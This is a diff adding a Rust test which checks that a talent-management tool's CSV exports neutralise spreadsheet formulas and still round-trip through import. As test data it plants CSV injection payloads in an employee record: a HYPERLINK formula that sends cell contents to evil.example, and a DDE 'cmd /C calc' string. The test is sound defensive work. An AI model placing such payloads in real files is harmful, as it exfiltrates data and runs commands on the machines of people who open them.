@@ -139,6 +139,131 @@ fn a_generated_city_round_trips_through_export_and_reimport() {
     }
 }
 
+/// The values of `column` in CSV `bytes`, one per row.
+fn cells(bytes: &[u8], column: &str) -> Vec<String> {
+    let mut reader = csv::Reader::from_reader(bytes);
+    let index = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == column)
+        .unwrap();
+    reader
+        .records()
+        .map(|r| r.unwrap()[index].to_owned())
+        .collect()
+}
+
+/// Names, places and titles that a spreadsheet would run as formulas come
+/// out of every CSV export with one `'` in front, and an export imports
+/// back exactly (docs/formats.md, "Formulas in CSV files").
+#[test]
+fn formula_text_is_guarded_in_csv_exports_and_round_trips_on_both_engines() {
+    let generated = generate(40, 5, false);
+    let file = generated.path().join("city/pegawai.csv");
+    let evil = [
+        (
+            "nama",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+        ),
+        ("tempatLahir", "+cmd|' /C calc'!A0"),
+        ("gelarDepan", "-5"),
+        ("gelarBelakang", "''quoted"),
+    ];
+    let mut reader = csv::Reader::from_path(&file).unwrap();
+    let header = reader.headers().unwrap().clone();
+    let mut rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let first: Vec<String> = rows[0].iter().map(str::to_owned).collect();
+    let mut edited = first.clone();
+    for (column, value) in evil {
+        let i = header.iter().position(|h| h == column).unwrap();
+        edited[i] = value.to_owned();
+    }
+    rows[0] = csv::StringRecord::from(edited);
+    let mut writer = csv::Writer::from_path(&file).unwrap();
+    writer.write_record(&header).unwrap();
+    for row in &rows {
+        writer.write_record(row).unwrap();
+    }
+    writer.flush().unwrap();
+    let nip = first[0].clone();
+
+    let work = TempDir::new("talenta_formula");
+    for db in databases() {
+        ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
+        let exported = export_all(&db, &work.path().join(db.engine));
+        let pegawai = &exported.iter().find(|(k, _)| k == "pegawai").unwrap().1;
+        let at = cells(pegawai, "nipBaru")
+            .iter()
+            .position(|n| *n == nip)
+            .unwrap();
+        for (column, expected) in [
+            (
+                "nama",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+            ),
+            ("tempatLahir", "'+cmd|' /C calc'!A0"),
+            ("gelarDepan", "'-5"),
+            ("gelarBelakang", "''quoted"),
+        ] {
+            assert_eq!(cells(pegawai, column)[at], expected, "{}", db.engine);
+        }
+        for (kind, bytes) in &exported {
+            let mut reader = csv::Reader::from_reader(bytes.as_slice());
+            for record in reader.records() {
+                for cell in &record.unwrap() {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{}: {kind}: unguarded {cell:?}",
+                        db.engine
+                    );
+                }
+            }
+        }
+
+        // The talent map's CSV guards the name too and keeps scores numbers.
+        let map = work.path().join(format!("{}-map.csv", db.engine));
+        let missing = work.path().join(format!("{}-missing.csv", db.engine));
+        ok(&[
+            "map",
+            "--period",
+            "2026-S1",
+            "--db",
+            &db.url,
+            "--out",
+            map.to_str().unwrap(),
+            "--missing",
+            missing.to_str().unwrap(),
+        ]);
+        let (map, missing) = (
+            std::fs::read(&map).unwrap(),
+            std::fs::read(&missing).unwrap(),
+        );
+        let names: Vec<String> = cells(&map, "name")
+            .into_iter()
+            .chain(cells(&missing, "name"))
+            .collect();
+        // The map shows the name with its titles: `-5 =HYPERLINK(…), 'quoted`.
+        let shown = "'-5 =HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\"), 'quoted";
+        assert!(names.iter().any(|n| n == shown), "{}: {names:?}", db.engine);
+        for score in cells(&map, "kinerja") {
+            assert!(score.parse::<f64>().is_ok(), "{score:?}");
+        }
+
+        // The export imports into an empty database and exports the same.
+        for other in databases().into_iter().filter(|o| o.engine == db.engine) {
+            let dir = work.path().join(db.engine);
+            ok(&["import", "--dir", dir.to_str().unwrap(), "--db", &other.url]);
+            let again = export_all(&other, &work.path().join(format!("{}-again", db.engine)));
+            assert_eq!(
+                exported, again,
+                "{}: export → import → export differs",
+                db.engine
+            );
+        }
+    }
+}
+
 #[test]
 fn the_same_city_gives_the_same_export_on_both_engines() {
     let generated = generate(300, 11, false);
